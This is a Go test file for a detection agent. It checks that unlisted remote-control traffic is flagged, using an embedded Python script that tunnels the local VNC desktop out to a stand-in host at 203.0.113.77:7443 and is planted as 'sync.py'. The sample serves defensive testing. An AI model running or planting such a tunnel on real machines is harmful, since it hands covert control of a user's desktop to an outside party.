//go:build tools

package main_test

import (
	"net"
	"slices"
	"testing"
	"time"
)

// A program of one's own that calls home and hands on what comes to the desktop,
// and the desktop's pictures back.
const homemade = `
import socket, threading
home, desk = socket.create_connection(("203.0.113.77", 7443)), socket.create_connection(("127.0.0.1", 5900))
for s in (home, desk):
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
def way(a, b):
    while part := a.recv(65536):
        b.sendall(part)
threading.Thread(target=way, args=(desk, home), daemon=True).start()
way(home, desk)
`

// TestToolsFlowsFound: the built agent finds by the flow alone that a laptop is
// driven through a program that nobody lists, and says which one it is.
func TestToolsFlowsFound(t *testing.T) {
	t.Parallel()
	s := newScene(t, false, "x11vnc")
	s.mine.screen()
	s.desktop(s.mine)
	done := make(chan struct{})
	defer close(done)
	called := make(chan net.Conn, 1)
	s.theirs.serves(7443, func(c net.Conn) { called <- c })
	s.mine.write("/home/kim/sync.py", homemade)
	s.mine.start("", "/usr/bin/python3", "/home/kim/sync.py")
	home := <-called
	s.theirs.serves(5903, func(viewer net.Conn) { late(viewer, home, 15*time.Millisecond, 3*time.Millisecond) })
	s.drives(6, s.mine.hands(), "127.0.0.1:5903", done)
	s.alongside(done)
	seen := s.mine.look("--for", flowsFor.String())
	following := map[string]string{}
	for _, row := range seen.Rows {
		if c := row.Columns; row.Class == "network_flows" {
			t.Logf("%s %s to port %s: %s, %s %s %% after %s minutes", c["file"], c["script"], c["remote_port"], c["shape"], c["follows_input"], c["input_correlation"], c["input_minutes"])
			following[c["remote_port"]] = c["follows_input"]
			if c["remote_port"] == "7443" && (c["script"] != "sync.py" || c["shape"] != "interactive") {
				t.Errorf("%v", c)
			}
		}
	}
	want, found := "weak", *flowsFor >= 12*time.Minute
	if found {
		want = "strong"
	}
	if following["7443"] != want || following["7001"] != "none" || following["7002"] != "none" {
		t.Errorf("%v, want %s for port 7443 and none for the others", following, want)
	}
	if slices.Contains(seen.rules(), "network.flow_follows_input") != found {
		t.Errorf("found: %v", seen.rules())
	}
}
